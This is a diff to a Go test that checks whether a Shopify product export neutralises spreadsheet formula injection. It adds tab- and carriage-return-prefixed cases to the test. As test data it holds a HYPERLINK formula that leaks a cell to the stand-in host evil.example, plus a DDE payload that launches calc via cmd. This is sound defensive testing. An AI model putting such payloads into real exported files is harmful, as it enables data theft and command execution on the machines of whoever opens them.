@@ -237,7 +237,8 @@ func TestShopifyFormulaCells(t *testing.T) {
 	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`
 	accept(t, app, org, client, "MUG-1", enrichment.Fields{Name: ptr(hyperlink), Description: ptr("@SUM(1+1)"),
 		Attributes: attrs(enrichment.StoredAttribute{Attribute: "+Grip", Detail: "-cmd|' /C calc'!A0"},
-			enrichment.StoredAttribute{Attribute: "Size", Detail: "-5"})})
+			enrichment.StoredAttribute{Attribute: "Size", Detail: "-5"},
+			enrichment.StoredAttribute{Attribute: "Fit", Detail: "\tRelaxed"}, enrichment.StoredAttribute{Attribute: "Note", Detail: "\r=cr"})})
 	ps := byExternalID(t, app, org)
 	if q := ps["quoted"]; q.Name != "'Quoted" || q.Description != "-x" {
 		t.Errorf("a quote before text that is no formula is kept, one before a formula removed: %+v", q)
@@ -256,7 +257,7 @@ func TestShopifyFormulaCells(t *testing.T) {
 		}
 	}
 	for _, want := range []string{`'` + hyperlink, "'@SUM(1+1)", "'-cmd|' /C calc'!A0", "'+Grip (product.metafields.custom._grip)",
-		"-5", "'-x", "'Quoted"} {
+		"-5", "'-x", "'Quoted", "'\tRelaxed", "'\r=cr"} {
 		if !slices.ContainsFunc(rows, func(r []string) bool { return slices.Contains(r, want) }) {
 			t.Errorf("no cell %q in\n%s", want, file)
 		}
